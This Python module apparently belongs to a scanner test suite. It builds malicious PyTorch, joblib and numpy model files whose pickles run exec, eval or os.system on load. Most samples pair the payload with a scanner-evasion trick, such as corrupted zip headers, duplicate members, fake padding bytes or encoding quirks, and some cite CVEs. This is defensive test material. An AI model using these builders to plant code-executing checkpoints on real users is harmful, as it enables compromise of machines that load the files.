"""Container tricks: PyTorch zip / legacy / tar checkpoints, joblib files with every codec, numpy
.npy/.npz with object arrays.

Containers are written with the real libraries (torch.save, joblib.dump, numpy.save) and the
payload is then injected, or carried by an object whose ``__reduce__`` the real pickler writes.
Zip samples reproduce reader differentials: torch's miniz reader trusts the central directory,
ignores CRCs and local-header names/flags, accepts any archive folder name and deflated members,
so a scanner built on Python's strict ``zipfile`` errors out and reports nothing.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from . import Sample
from ._asm import (
    BINPERSID,
    BUILD,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    POP,
    Ops,
    binget,
    binput,
    call,
    glob,
    inject_prefix,
    lit,
    pickle_bytes,
    split_pickles,
    tup,
)
from ._common import (
    code,
    exec_payload,
    first_local_header,
    from_bytes,
    patch_zip_headers,
    replace_member,
    shell,
    small_state_dict,
    torch_legacy_bytes,
    torch_zip_bytes,
    write_zip,
    zip_members,
)

M = "malicious"


def _exec_ops(marker: Path) -> Ops:
    return call(glob("builtins", "exec"), code(marker))


# --------------------------------------------------------------------------- torch zip


def _zip_prefix_payload(marker: Path) -> bytes:
    return replace_member(
        torch_zip_bytes(small_state_dict()),
        "/data.pkl",
        lambda p: inject_prefix(p, _exec_ops(marker)),
    )


def _zip_reduce_object(_out: Path, marker: Path) -> bytes:
    return torch_zip_bytes({"state_dict": small_state_dict(), "config": exec_payload(marker)})


def _zip_bad_crc(_out: Path, marker: Path) -> bytes:
    def patch(buf: bytearray, offset: int, is_local: bool) -> None:
        buf[offset + (14 if is_local else 16) : offset + (18 if is_local else 20)] = (
            b"\xde\xad\xbe\xef"
        )

    return patch_zip_headers(_zip_prefix_payload(marker), patch)


def _zip_local_name_mismatch(_out: Path, marker: Path) -> bytes:
    data = bytearray(_zip_prefix_payload(marker))
    offset, name_len, _extra = first_local_header(bytes(data))
    name = bytes(data[offset + 30 : offset + 30 + name_len])
    assert name.endswith(b"data.pkl"), name
    data[offset + 30 : offset + 30 + name_len] = name.replace(b"data.pkl", b"datap.kl")
    return bytes(data)


def _zip_local_flag_bits(_out: Path, marker: Path) -> bytes:
    def patch(buf: bytearray, offset: int, is_local: bool) -> None:
        if is_local:
            flags = struct.unpack_from("<H", buf, offset + 6)[0]
            struct.pack_into("<H", buf, offset + 6, flags | 0x0001 | 0x0040)

    return patch_zip_headers(_zip_prefix_payload(marker), patch)


def _zip_local_sizes_zeroed(_out: Path, marker: Path) -> bytes:
    def patch(buf: bytearray, offset: int, is_local: bool) -> None:
        if is_local:
            struct.pack_into("<III", buf, offset + 14, 0, 0, 0)

    return patch_zip_headers(_zip_prefix_payload(marker), patch)


def _zip_renamed_folder(_out: Path, marker: Path) -> bytes:
    return replace_member(
        torch_zip_bytes(small_state_dict()),
        "/data.pkl",
        lambda p: inject_prefix(p, _exec_ops(marker)),
        rename=lambda n: "resnet50-finetuned_v2/" + n.split("/", 1)[1],
    )


def _zip_deflated(_out: Path, marker: Path) -> bytes:
    return replace_member(
        torch_zip_bytes(small_state_dict()),
        "/data.pkl",
        lambda p: inject_prefix(p, _exec_ops(marker)),
        compression=zipfile.ZIP_DEFLATED,
    )


def _zip_duplicate_member(_out: Path, marker: Path) -> bytes:
    members = zip_members(torch_zip_bytes(small_state_dict()))
    name, benign = members[0]
    assert name.endswith("/data.pkl")
    evil = inject_prefix(benign, _exec_ops(marker))
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        return write_zip([(name, evil), *members[1:], (name, benign)])


def _zip_trailing_junk(_out: Path, marker: Path) -> bytes:
    return _zip_prefix_payload(marker) + b"\x00" * 16 + b"JUNK" * 64 + bytes(range(256))


def _tensor_pickle(pid: Ops) -> Ops:
    """{'w': _rebuild_tensor_v2(<persistent storage>, 0, (4,), (1,), False, OrderedDict())}."""
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        pid + BINPERSID,
        0,
        (4,),
        (1,),
        False,
        call(glob("collections", "OrderedDict")),
    )
    return lit({"w": tensor})


def _zip_with_pickle(data_pkl: bytes) -> bytes:
    import torch

    base = torch_zip_bytes({"w": torch.arange(4.0)})
    return replace_member(base, "/data.pkl", lambda _old: data_pkl)


def _zip_persid_payload(_out: Path, marker: Path) -> bytes:
    pid = MARK + lit("storage") + glob("torch", "FloatStorage") + lit("0") + _exec_ops(marker) + POP
    pid = pid + lit("cpu") + lit(4) + Ops(b"t")
    return _zip_with_pickle(pickle_bytes(_tensor_pickle(pid), 2))


def _raw_pickle_as_bin(_out: Path, marker: Path) -> bytes:
    return pickle_bytes(call(glob("os", "system"), shell(marker)), 2)


# --------------------------------------------------------------------------- torch legacy


def _legacy_with_payload_in(index: int):  # type: ignore[no-untyped-def]
    def content(_out: Path, marker: Path) -> bytes:
        parts, rest = split_pickles(torch_legacy_bytes(small_state_dict()), 5)
        parts[index] = inject_prefix(parts[index], _exec_ops(marker))
        return b"".join(parts) + rest

    return content


def _legacy_magic_via_eval(_out: Path, marker: Path) -> bytes:
    parts, rest = split_pickles(torch_legacy_bytes(small_state_dict()), 5)
    expression = f"(exec({code(marker)!r}), 0x1950A86A20F9469CFC6C)[1]"
    parts[0] = pickle_bytes(call(glob("builtins", "eval"), expression), 2)
    return b"".join(parts) + rest


def _legacy_persid_module(_out: Path, marker: Path) -> bytes:
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    head = b"".join(
        pickle.dumps(v, protocol=2)
        for v in (
            MAGIC_NUMBER,
            PROTOCOL_VERSION,
            {"protocol_version": PROTOCOL_VERSION, "little_endian": True},
        )
    )
    pid = tup("module", _exec_ops(marker), "", "")
    main = pickle_bytes(lit({"model": pid + BINPERSID, "epoch": 3}), 2)
    return head + main + pickle.dumps([], protocol=2)


# --------------------------------------------------------------------------- torch legacy tar


def _legacy_tar(where: str):  # type: ignore[no-untyped-def]
    """Old torch tar checkpoint: members 'sys_info', 'storages', 'tensors' and 'pickle'."""

    def content(_out: Path, marker: Path) -> bytes:
        import torch

        def dump(value: Any) -> bytes:
            return pickle.dumps(value, protocol=2)

        payload = _exec_ops(marker)
        storages = dump(1)
        if where == "storages":
            storages = inject_prefix(storages, payload)
        storages += dump((1, "cpu", torch.FloatStorage))
        storages += struct.pack("<q", 4) + struct.pack("<4f", 0.5, 1.5, 2.5, 3.5)
        storages += dump([])  # storage views

        tensors = dump(1)
        if where == "tensors":
            tensors = inject_prefix(tensors, payload)
        tensors += dump((2, 1, "torch.FloatTensor"))
        tensors += struct.pack("<i", 1) + b"\x00" * 4 + struct.pack("<q", 4) + struct.pack("<q", 1)
        tensors += struct.pack("<q", 0)

        main = pickle_bytes(lit({"weight": Ops(b"P2\n"), "note": "legacy tar"}), 2)
        if where == "pickle":
            main = inject_prefix(main, payload)

        sys_info = dump({"protocol_version": 1001, "little_endian": True})
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
            for member, data in (
                ("sys_info", sys_info),
                ("pickle", main),
                ("tensors", tensors),
                ("storages", storages),
            ):
                info = tarfile.TarInfo(member)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return buffer.getvalue()

    return content


# --------------------------------------------------------------------------- reader differentials


def _zip_utf8_binstring(_out: Path, marker: Path) -> bytes:
    """data.pkl opens with a py2 str holding UTF-8 bytes: torch unpickles with encoding='utf-8',
    an unpickler left at the default 'ASCII' fails on the first opcode and never reaches the
    payload."""

    def transform(old: bytes) -> bytes:
        head = Ops(b"U\x02\xc3\xa9") + POP + _exec_ops(marker) + POP
        return old[:2] + bytes(head) + old[2:]

    return replace_member(torch_zip_bytes(small_state_dict()), "/data.pkl", transform)


def _legacy_text_magic(_out: Path, marker: Path) -> bytes:
    """Legacy format whose first three pickles are protocol-0 text (torch compares values only)."""
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    parts, rest = split_pickles(torch_legacy_bytes(small_state_dict()), 5)
    parts[0] = pickle.dumps(MAGIC_NUMBER, protocol=0)
    parts[1] = pickle.dumps(PROTOCOL_VERSION, protocol=0)
    parts[2] = pickle.dumps(
        {"protocol_version": PROTOCOL_VERSION, "little_endian": True}, protocol=0
    )
    parts[3] = inject_prefix(parts[3], _exec_ops(marker))
    return b"".join(parts) + rest


def _dtype_u1() -> Ops:
    return (
        call(glob("numpy", "dtype"), "u1", False, True)
        + tup(3, "|", None, None, None, -1, -1, 0)
        + BUILD
    )


def _wrapper(state: dict[str, object]) -> Ops:
    return (
        glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + binput(0)
        + lit(state)
        + BUILD
    )


def _joblib_wrapper_rebuilt(_out: Path, marker: Path) -> bytes:
    """A NumpyArrayWrapper fetched again from the memo and BUILT a second time makes joblib read a
    second 'array' from the stream. Those 5 array bytes are a BINBYTES header that, to a reader
    unaware of the second read, swallows the payload opcodes as a bytes literal."""
    payload = call(glob("os", "system"), shell(marker)) + POP
    state = {
        "subclass": glob("numpy", "ndarray"),
        "shape": (4,),
        "order": "C",
        "dtype": _dtype_u1(),
        "allow_mmap": False,
    }
    out = b"\x80\x04" + bytes(_wrapper(state)) + b"\x01\x02\x03\x04" + bytes(POP)
    out += bytes(binget(0) + lit({"shape": (5,)}) + BUILD)
    out += b"B" + struct.pack("<I", len(payload))
    out += bytes(payload) + bytes(POP + lit({"coef": [1.0, 2.0]})) + b"."
    return out


def _joblib_padding_lies(_out: Path, marker: Path) -> bytes:
    """joblib reads the padding length from the byte before the array. Sixteen extra padding bytes
    keep the array aligned but shift it: a reader that computes padding from the offset ends the
    array 16 bytes early and parses its tail, a BINBYTES header that swallows the payload."""
    import joblib
    import numpy as np

    payload = call(glob("os", "system"), shell(marker)) + POP
    tail = b"B" + struct.pack("<I", 11 + len(payload)) + b"\x00" * 11
    values = np.frombuffer(b"\x07" * 48 + tail, dtype=np.uint8).copy()
    buffer = io.BytesIO()
    joblib.dump({"coef": values, "classes": ["a", "b"]}, buffer)
    data = buffer.getvalue()
    start = data.find(bytes(values))
    assert start > 0 and data.count(bytes(values)) == 1
    pad_at = data.rfind(b"b", 0, start)  # BUILD opcode, then the padding length byte
    pad_len = data[pad_at + 1]
    assert pad_at + 2 + pad_len == start, (pad_at, pad_len, start)
    end = start + len(values)
    return (
        data[: pad_at + 1]
        + bytes([pad_len + 16])
        + data[pad_at + 2 : start]
        + b"\x00" * 16
        + data[start:end]
        + bytes(payload)
        + data[end:]
    )


def _npy_structured(out_dir: Path, marker: Path) -> Path:
    import numpy as np

    path = out_dir / "numpy-npy-structured-object-field.npy"
    array = np.array([(1, exec_payload(marker))], dtype=[("id", "<i4"), ("meta", "O")])
    np.save(path, array, allow_pickle=True)
    return path


def _npy_descr_spelling(out_dir: Path, marker: Path) -> Path:
    """Hand-written .npy header whose descr is 'O8' rather than the usual '|O'."""
    path = out_dir / "numpy-npy-descr-o8.npy"
    header = "{'descr': 'O8', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    body = pickle.dumps(_object_array(marker)[:1], protocol=3)
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body)
    return path


def _zip_forced_zip64(_out: Path, marker: Path) -> bytes:
    """Every member written with ZIP64 extra fields (as torch does for huge checkpoints)."""
    members = zip_members(_zip_prefix_payload(marker))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member_name, content in members:
            with archive.open(member_name, "w", force_zip64=True) as handle:
                handle.write(content)
    return buffer.getvalue()


class _NoSeek(io.RawIOBase):
    """A write-only stream without tell/seek: zipfile falls back to data descriptors."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk: bytes) -> int:  # type: ignore[override]
        self.data += chunk
        return len(chunk)


def _zip_data_descriptors(_out: Path, marker: Path) -> bytes:
    """Streamed zip: local headers carry no sizes or CRC (flag bit 3); they follow each member."""
    members = zip_members(_zip_prefix_payload(marker))
    stream = _NoSeek()
    with zipfile.ZipFile(stream, "w") as archive:  # type: ignore[arg-type]
        for member_name, content in members:
            archive.writestr(member_name, content)
    return bytes(stream.data)


def _raw_exec_pickle(_out: Path, marker: Path) -> bytes:
    return pickle_bytes(_exec_ops(marker), 2)


# --------------------------------------------------------------------------- joblib


def _joblib(compress: Any, payload_first: bool = False, object_array: bool = False):  # type: ignore[no-untyped-def]
    def build(out_dir: Path, marker: Path, name: str) -> Path:
        import joblib
        import numpy as np

        coef = np.linspace(0.0, 1.0, 4096)
        payload: Any = exec_payload(marker)
        if object_array:
            payload = np.array([payload, "label"], dtype=object)
        items = (
            [("payload", payload), ("coef", coef)]
            if payload_first
            else [("coef", coef), ("payload", payload)]
        )
        path = out_dir / name
        joblib.dump(dict(items), path, compress=compress)
        return path

    return build


def _joblib_sample(name: str, description: str, compress: Any, ext: str, **kwargs: Any) -> Sample:
    builder = _joblib(compress, **kwargs)
    return Sample(name, description, lambda out, m: builder(out, m, name + ext), "joblib", M)


# --------------------------------------------------------------------------- numpy


def _object_array(marker: Path) -> Any:
    import numpy as np

    return np.array([exec_payload(marker), {"classes": ["cat", "dog"]}], dtype=object)


def _npy(out_dir: Path, marker: Path) -> Path:
    import numpy as np

    path = out_dir / "numpy-npy-object-array.npy"
    np.save(path, _object_array(marker), allow_pickle=True)
    return path


def _npy_v3(out_dir: Path, marker: Path) -> Path:
    import numpy as np

    path = out_dir / "numpy-npy-format-v3.npy"
    with open(path, "wb") as handle:
        np.lib.format.write_array(handle, _object_array(marker), version=(3, 0), allow_pickle=True)
    return path


def _npz(compressed: bool):  # type: ignore[no-untyped-def]
    def build(out_dir: Path, marker: Path) -> Path:
        import numpy as np

        name = "numpy-npz-compressed-member.npz" if compressed else "numpy-npz-member.npz"
        path = out_dir / name
        save = np.savez_compressed if compressed else np.savez
        save(path, weights=np.arange(12.0).reshape(3, 4), labels=_object_array(marker))
        return path

    return build


def _joblib_codecs() -> list[Sample]:
    codecs: list[tuple[str, Any, str]] = [
        ("zlib", ("zlib", 3), ".joblib.z"),
        ("gzip", ("gzip", 3), ".joblib.gz"),
        ("bz2", ("bz2", 3), ".joblib.bz2"),
        ("lzma", ("lzma", 3), ".joblib.lzma"),
        ("xz", ("xz", 3), ".joblib.xz"),
    ]
    try:
        import lz4  # noqa: F401
    except ImportError:  # pragma: no cover - optional
        pass
    else:
        codecs.append(("lz4", ("lz4", 3), ".joblib.lz4"))
    return [
        _joblib_sample(
            f"joblib-{label}-payload-after-array",
            f"joblib.dump with compress={spec!r}: the whole stream is {label}-compressed, and the "
            "payload sits after a raw numpy array block.",
            spec,
            ext,
        )
        for label, spec, ext in codecs
    ]


SAMPLES: list[Sample] = [
    # ---------------------------------------------------------------- torch zip
    from_bytes(
        "torch-zip-datapkl-prefix-payload",
        "torch.save() zip checkpoint whose data.pkl first runs exec, then rebuilds the real state "
        "dict: the model loads and works.",
        lambda _o, m: _zip_prefix_payload(m),
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-reduce-object",
        "A checkpoint dict saved with torch.save whose 'config' entry pickles as exec(src).",
        _zip_reduce_object,
        M,
        loader="torch",
        ext=".pth",
    ),
    from_bytes(
        "torch-zip-bad-crc",
        "Every CRC in local and central headers is wrong; torch never checks them, Python's "
        "zipfile "
        "raises BadZipFile.",
        _zip_bad_crc,
        M,
        loader="torch",
        ext=".pt",
        advisory="CVE-2025-10156",
    ),
    from_bytes(
        "torch-zip-local-header-name-mismatch",
        "The local header of data.pkl names 'datap.kl'; torch uses the central directory, zipfile "
        "refuses the member.",
        _zip_local_name_mismatch,
        M,
        loader="torch",
        ext=".pt",
        advisory="CVE-2025-1944",
    ),
    from_bytes(
        "torch-zip-local-flag-bits",
        "Encryption flag bits (0x1, 0x40) set in the local headers only; torch reads the central "
        "directory's flags, strict readers think the members are encrypted.",
        _zip_local_flag_bits,
        M,
        loader="torch",
        ext=".pt",
        advisory="CVE-2025-1945",
    ),
    from_bytes(
        "torch-zip-local-sizes-zeroed",
        "Local headers claim zero sizes and CRC; only the central directory is right.",
        _zip_local_sizes_zeroed,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-renamed-archive-folder",
        "The archive folder is 'resnet50-finetuned_v2/' instead of 'archive/'; torch takes "
        "whatever prefix the first member has.",
        _zip_renamed_folder,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-deflated-datapkl",
        "Members are DEFLATE-compressed (torch.save stores them); torch still loads them, and a "
        "scanner reading stored bytes sees only compressed noise.",
        _zip_deflated,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-duplicate-datapkl",
        "Two members named archive/data.pkl: torch's reader (sorted central directory lookup) "
        "loads the first, which carries the payload; Python's zipfile returns the last, benign "
        "one.",
        _zip_duplicate_member,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-trailing-junk",
        "Junk bytes after the end of the real zip (torch locates the central directory from the "
        "end).",
        _zip_trailing_junk,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-persid-payload",
        "The payload runs while the persistent-id tuple of a storage is being built (inside "
        "BINPERSID's argument), then the tensor loads normally.",
        _zip_persid_payload,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-nonstandard-extension",
        "A torch zip checkpoint with payload saved as model.weights2: extension-based routing "
        "skips it.",
        lambda _o, m: _zip_prefix_payload(m),
        M,
        loader="torch",
        ext=".weights2",
        advisory="CVE-2025-1889",
    ),
    from_bytes(
        "torch-raw-pickle-as-bin",
        "A plain payload pickle named pytorch_model.bin: torch.load treats it as a legacy "
        "checkpoint and unpickles it as the 'magic number'; a scanner expecting a torch format "
        "errors out.",
        _raw_pickle_as_bin,
        M,
        loader="torch",
        ext=".bin",
        advisory="CVE-2025-10155",
    ),
    # ---------------------------------------------------------------- torch legacy (5 pickles)
    *[
        from_bytes(
            f"torch-legacy-payload-in-{label}",
            f"Legacy torch.save format (five concatenated pickles then raw storages) with the "
            f"payload "
            f"prepended to the {label} pickle; the file still loads.",
            _legacy_with_payload_in(index),
            M,
            loader="torch",
            ext=".pt",
        )
        for index, label in enumerate(
            ["magic-number", "protocol-version", "sys-info", "main", "storage-keys"]
        )
    ],
    from_bytes(
        "torch-legacy-magic-via-eval",
        "Legacy format whose magic number is computed by builtins.eval (which also runs the "
        "payload) instead of being a literal integer.",
        _legacy_magic_via_eval,
        M,
        loader="torch",
        ext=".pt",
        advisory="GHSA-97f8-7cmv-76j2",
    ),
    from_bytes(
        "torch-legacy-persid-module",
        "Legacy format whose persistent id ('module', <obj>, '', '') is resolved to <obj> itself: "
        "the payload result is smuggled through persistent_load.",
        _legacy_persid_module,
        M,
        loader="torch",
        ext=".pt",
    ),
    *[
        from_bytes(
            f"torch-legacy-tar-payload-in-{where}",
            f"Old tar checkpoint (sys_info/pickle/tensors/storages members) with the payload in "
            f"the "
            f"'{where}' member, which torch's _legacy_load unpickles.",
            _legacy_tar(where),
            M,
            loader="torch",
            ext=".tar",
        )
        for where in ("storages", "tensors", "pickle")
    ],
    # ---------------------------------------------------------------- joblib
    _joblib_sample(
        "joblib-plain-payload-after-array",
        "Uncompressed joblib: the payload pickle opcodes follow the raw bytes of a numpy array "
        "(NumpyArrayWrapper), which opcode walkers read as garbage.",
        None,
        ".joblib",
    ),
    _joblib_sample(
        "joblib-plain-payload-before-array",
        "Uncompressed joblib with the payload before the array block.",
        None,
        ".pkl",
        payload_first=True,
    ),
    _joblib_sample(
        "joblib-object-array-payload",
        "joblib pickles an object-dtype array inline; the payload is an element of that array.",
        3,
        ".joblib",
        object_array=True,
    ),
    *_joblib_codecs(),
    # ---------------------------------------------------------------- numpy
    Sample(
        "numpy-npy-object-array",
        "An object-dtype .npy: after the header the data is a pickle carrying the payload.",
        _npy,
        "numpy",
        M,
    ),
    Sample(
        "numpy-npy-format-v3",
        "An object-dtype .npy written with format version 3.0 (utf-8 header).",
        _npy_v3,
        "numpy",
        M,
    ),
    Sample(
        "numpy-npz-member",
        "An .npz whose 'labels' member is an object array carrying the payload.",
        _npz(False),
        "numpy",
        M,
    ),
    Sample(
        "numpy-npz-compressed-member",
        "A compressed .npz (deflated members) whose object member carries the payload.",
        _npz(True),
        "numpy",
        M,
    ),
    from_bytes(
        "torch-zip-utf8-binstring-before-payload",
        "data.pkl starts with a py2 str of UTF-8 bytes: torch decodes it (encoding='utf-8'), an "
        "analysis run with the default ASCII encoding stops there, before the payload.",
        _zip_utf8_binstring,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-legacy-text-magic",
        "Legacy checkpoint whose magic, protocol and sys_info pickles are protocol-0 text, so "
        "byte-signature sniffing of the legacy format fails; payload in the main pickle.",
        _legacy_text_magic,
        M,
        loader="torch",
        ext=".bin",
    ),
    from_bytes(
        "joblib-wrapper-rebuilt-via-memo",
        "A second BUILD on the memoised NumpyArrayWrapper makes joblib read another array block, "
        "whose bytes hide the payload from readers that only expect one read per wrapper.",
        _joblib_wrapper_rebuilt,
        M,
        loader="joblib",
        ext=".joblib",
    ),
    from_bytes(
        "joblib-padding-length-lies",
        "The array padding length byte says 16 more than alignment needs; joblib trusts the byte, "
        "a reader computing alignment itself mis-locates the array and misses the payload.",
        _joblib_padding_lies,
        M,
        loader="joblib",
        ext=".joblib",
    ),
    Sample(
        "numpy-npy-structured-object-field",
        "A structured dtype with one object field: the descr is a list, not '|O', yet the data "
        "is a pickle.",
        _npy_structured,
        "numpy",
        M,
    ),
    Sample(
        "numpy-npy-descr-o8",
        "Hand-written .npy header spelling the object dtype 'O8'.",
        _npy_descr_spelling,
        "numpy",
        M,
    ),
    from_bytes(
        "torch-zip-forced-zip64",
        "The payload checkpoint rewritten with ZIP64 local headers (sizes 0xFFFFFFFF, real sizes "
        "in the zip64 extra field).",
        _zip_forced_zip64,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "torch-zip-data-descriptors",
        "The payload checkpoint written as a streamed zip: sizes and CRCs live in data "
        "descriptors after each member (flag bit 3), not in the local headers.",
        _zip_data_descriptors,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "numpy-load-raw-pickle-as-npy",
        "A plain pickle named weights.npy: numpy.load(allow_pickle=True) falls back to "
        "pickle.load for files that are neither .npy nor .npz.",
        _raw_exec_pickle,
        M,
        loader="numpy",
        ext=".npy",
    ),
    from_bytes(
        "joblib-load-plain-pickle",
        "A plain pickle (no joblib wrappers) loaded with joblib.load, which unpickles any stream.",
        _raw_exec_pickle,
        M,
        loader="joblib",
        ext=".joblib",
    ),
]
